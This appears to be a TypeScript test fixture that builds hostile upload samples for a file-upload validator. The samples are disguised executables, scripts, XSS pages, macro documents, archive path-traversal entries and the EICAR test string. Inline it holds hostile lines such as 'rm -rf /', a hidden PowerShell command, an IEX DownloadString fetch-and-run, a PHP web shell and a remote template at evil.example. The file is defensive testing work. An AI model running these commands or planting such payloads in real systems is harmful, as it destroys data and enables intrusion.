import type { Messages } from "../../src/base/i18n/messages.ts";
import { officeOf, zipOf } from "./archives.ts";
import {
  compoundOf,
  documentOf,
  elf,
  gif,
  hex,
  pdf,
  pe,
  png,
  relationship,
  shortcut,
} from "./fileSamples.ts";

/** A file that must not be taken, and the key of the words that say why. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly content: Buffer;
  readonly reason: keyof Messages["enquiry"]["uploads"];
}

/** The test file of virus scanners, in pieces: no scanner must find it in the source. */
const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].join(
  "",
);

const page = '<!DOCTYPE html><html><body onload="alert(1)"><script>alert(1)</script></body></html>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M0 0"/></svg>';
const hta =
  '<hta:application id="a" /><script language="VBScript">CreateObject("WScript.Shell")</script>';
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");

/** Names under which something else comes along. */
function disguised(content: Buffer, names: readonly string[], what: string): HostileFile[] {
  return names.map((name) => ({ what: `${what} as ${name}`, name, content, reason: "program" }));
}

const archived = (name: string, data: string | Uint8Array): Buffer => zipOf([{ name, data }]);

const programs: readonly HostileFile[] = [
  ...disguised(pe, ["setup.exe", "photo.jpg", "report.pdf", "notes.txt", "a.zip", "b.docx"], "MZ"),
  ...disguised(Buffer.from("MZ only"), ["letter.txt"], "the letters MZ"),
  ...disguised(elf, ["app.bin", "log.txt"], "ELF"),
  ...disguised(hex("cffaedfe07000001"), ["mac.txt"], "Mach-O"),
  ...disguised(hex("cafebabe00000034"), ["Main.class", "a.txt"], "Java"),
  ...disguised(hex("0061736d01000000"), ["a.txt"], "WebAssembly"),
  ...disguised(shortcut, ["report.pdf.lnk", "report.pdf"], "a shortcut"),
  ...disguised(Buffer.concat([png, pe]), ["photo.png"], "a program behind a picture"),
  ...disguised(Buffer.concat([pdf, pe]), ["report.pdf"], "a program behind a PDF"),
];

const scripts: readonly HostileFile[] = [
  ...disguised(Buffer.from("#!/bin/sh\nrm -rf /\n"), ["notes.txt", "run.sh"], "a shell script"),
  ...disguised(
    Buffer.from("\ufeff#!/usr/bin/env python3\n"),
    ["notes.txt"],
    "a script with a mark",
  ),
  ...disguised(Buffer.from("@echo off\r\ndel *.*\r\n"), ["notes.txt", "go.bat"], "a batch file"),
  ...disguised(Buffer.from("print('a')\n"), ["a.py"], "Python"),
  ...disguised(
    Buffer.from('Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
    ["a.vbs", "notes.txt"],
    "VBScript",
  ),
  ...disguised(Buffer.from('var s = new ActiveXObject("WScript.Shell");'), ["a.log"], "JScript"),
  ...disguised(
    Buffer.from("powershell.exe -nop -w hidden -enc SQBFAFgA"),
    ["notes.txt"],
    "PowerShell",
  ),
  ...disguised(Buffer.from("IEX (New-Object Net.WebClient).DownloadString('x')"), ["a.txt"], "IEX"),
  ...disguised(Buffer.from("<?php system($_GET[0]); ?>"), ["a.txt"], "PHP"),
  ...disguised(
    Buffer.concat([gif, Buffer.from("<?php system($_GET[0]);")]),
    ["a.gif"],
    "PHP in a GIF",
  ),
  ...disguised(Buffer.from("alert(1)"), ["a.js", "a.txt.js ", "a.js."], "JavaScript"),
  ...disguised(Buffer.from("Windows Registry Editor Version 5.00\n"), ["a.txt"], "a registry file"),
  ...disguised(Buffer.from("[InternetShortcut]\nURL=file://x\n"), ["a.txt"], "an address file"),
  ...disguised(Buffer.from("{\\rtf1 {\\object\\objdata 00}}"), ["letter.txt"], "RTF"),
];

const pages: readonly HostileFile[] = [
  ...disguised(Buffer.from(page), ["a.html", "a.txt", "a.pdf", "a.jpg", "a.csv"], "a page"),
  ...disguised(utf16(page), ["a.txt"], "a page in UTF-16"),
  ...disguised(
    Buffer.from(`${" \n".repeat(400)}<!-- a --><HTML>`),
    ["a.txt"],
    "a page after blanks",
  ),
  ...disguised(Buffer.from(`${"a line\n".repeat(20_000)}${page}`), ["a.log"], "a page after a log"),
  ...disguised(Buffer.from('Look: <img src=x onerror="alert(1)">'), ["a.txt"], "a picture's error"),
  ...disguised(Buffer.from('<a href="javascript:alert(1)">a</a>'), ["a.txt"], "a link that runs"),
  ...disguised(Buffer.from("<iframe src=x>"), ["a.md"], "a frame"),
  ...disguised(Buffer.concat([png, Buffer.from(page)]), ["a.png"], "a page behind a picture"),
  ...disguised(Buffer.concat([Buffer.from(`${page}\n`), pdf]), ["a.pdf"], "a page before a PDF"),
  ...disguised(Buffer.concat([pdf, Buffer.from(page)]), ["a.pdf"], "a page behind a PDF"),
  ...disguised(Buffer.from(hta), ["a.hta", "a.txt"], "HTA"),
  ...disguised(Buffer.from(drawing), ["a.svg", "a.png", "a.txt"], "SVG"),
  ...disguised(Buffer.from(`<?xml version="1.0"?>\n${drawing}`), ["a.txt"], "SVG as XML"),
  ...disguised(utf16(drawing), ["a.txt"], "SVG in UTF-16"),
  ...disguised(Buffer.from(`MIME-Version: 1.0\n\n${page}`), ["a.txt"], "a page as a mail"),
];

const macros: readonly HostileFile[] = [
  ...disguised(compoundOf("WordDocument", "Macros"), ["a.doc"], "macros of old"),
  ...disguised(compoundOf("Workbook", "_VBA_PROJECT_CUR"), ["a.xls"], "macros in a sheet of old"),
  ...disguised(compoundOf("WordDocument", "\u0001Ole10Native"), ["a.doc"], "a packed program"),
  ...disguised(
    Buffer.concat([
      compoundOf("PowerPoint Document"),
      hex("1f00ff0314000000020000040c000000"),
      Buffer.alloc(100),
    ]),
    ["a.ppt"],
    "macros in a presentation of old",
  ),
  ...disguised(
    documentOf("word", [{ name: "word/vbaProject.bin", data: "a" }]),
    ["a.docm", "a.docx", "a.zip"],
    "macros",
  ),
  ...disguised(
    documentOf("xl", [{ name: "xl/macrosheets/sheet1.xml", data: "a" }]),
    ["a.xlsx"],
    "macro sheets",
  ),
  ...disguised(
    documentOf("ppt", [{ name: "ppt/activeX/activeX1.xml", data: "a" }]),
    ["a.pptx"],
    "controls",
  ),
  ...disguised(
    documentOf(
      "word",
      [],
      '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    ),
    ["a.docx"],
    "a document that says it has macros",
  ),
  ...disguised(
    documentOf("word", [
      {
        name: "word/_rels/settings.xml.rels",
        data: relationship("attachedTemplate", "https://evil.example/a.dotm"),
      },
    ]),
    ["a.docx"],
    "a template from elsewhere",
  ),
  ...disguised(
    documentOf("word", [
      { name: "word/embeddings/oleObject1.bin", data: compoundOf("\u0001Ole10Native") },
    ]),
    ["a.docx"],
    "a program packed into a document",
  ),
  ...disguised(
    zipOf([
      { name: "a.docx", data: documentOf("word", [{ name: "word/vbaProject.bin", data: "a" }]) },
    ]),
    ["a.zip"],
    "macros in an archive",
  ),
];

const archives: readonly HostileFile[] = [
  ...disguised(archived("setup.exe", "a"), ["a.zip"], "an archive with a program's name"),
  ...disguised(archived("readme.txt", pe), ["a.zip"], "an archive with a disguised program"),
  ...disguised(archived("folder/a.txt", elf), ["a.zip"], "an archive with ELF"),
  ...disguised(archived("a.lnk", shortcut), ["a.zip"], "an archive with a shortcut"),
  ...disguised(archived("a.txt", page), ["a.zip"], "an archive with a page"),
  ...disguised(archived("a.txt", drawing), ["a.zip"], "an archive with a drawing"),
  ...disguised(archived("a.txt", utf16(page)), ["a.zip"], "an archive with a page in UTF-16"),
  ...disguised(archived("a.vbs ", "a"), ["a.zip"], "an archive with a script"),
  ...disguised(archived("a.dat", archived("b.dat", pe)), ["a.zip"], "archives within archives"),
  {
    what: "a RAR in an archive",
    name: "a.zip",
    content: archived("a", hex("526172211a0700")),
    reason: "kind",
  },
  {
    what: "a path out of the archive",
    name: "a.zip",
    content: archived("../../a.txt", "a"),
    reason: "unreadable",
  },
  {
    what: "an absolute path",
    name: "a.zip",
    content: archived("/etc/cron.d/a", "a"),
    reason: "unreadable",
  },
  {
    what: "an archive behind a picture",
    name: "a.png",
    content: Buffer.concat([png, archived("a", "a")]),
    reason: "kind",
  },
  {
    what: "an archive behind a PDF",
    name: "a.pdf",
    content: Buffer.concat([pdf, archived("a", "a")]),
    reason: "kind",
  },
];

const infected: readonly HostileFile[] = (
  [
    ["as it is", "eicar.txt", Buffer.from(eicar)],
    ["as a PDF", "a.pdf", Buffer.concat([pdf, Buffer.from(eicar)])],
    ["behind a picture", "a.png", Buffer.concat([png, Buffer.from(eicar)])],
    ["in an archive", "a.zip", archived("a.txt", eicar)],
    ["in archives", "a.zip", archived("b.zip", archived("a.txt", eicar))],
    ["in a document", "a.docx", documentOf("word", [{ name: "word/media/a.png", data: eicar }])],
    ["over a border", "a.txt", Buffer.from(`${"a".repeat(65_500)}${eicar}`)],
  ] as const
).map(([how, name, content]) => ({ what: `EICAR ${how}`, name, content, reason: "infected" }));

const misnamed: readonly HostileFile[] = (
  [
    ["a text as a PDF", "a.pdf", Buffer.from("a note")],
    ["a text as a picture", "a.png", Buffer.from("a note")],
    ["a text as a document", "a.docx", Buffer.from("a note")],
    ["a picture as another", "a.jpg", png],
    ["a picture as a PDF", "a.pdf", gif],
    ["a PDF as a text", "a.txt", pdf],
    ["a PDF without an ending", "report", pdf],
    ["an archive as a document", "a.docx", archived("a.txt", "a")],
    ["a document as an archive", "a.zip", officeOf()],
    ["a presentation as a sheet", "a.xlsx", officeOf()],
    ["a sheet of old as a text of old", "a.doc", compoundOf("Workbook")],
    ["a stream of a name", "a.txt::$DATA", Buffer.from("a note")],
  ] as const
).map(([what, name, content]) => ({ what, name, content, reason: "ending" }));

/** Files that nobody means well with, made here: none of them may be taken. */
export const hostileFiles: readonly HostileFile[] = [
  ...programs,
  ...scripts,
  ...pages,
  ...macros,
  ...archives,
  ...infected,
  ...misnamed,
];
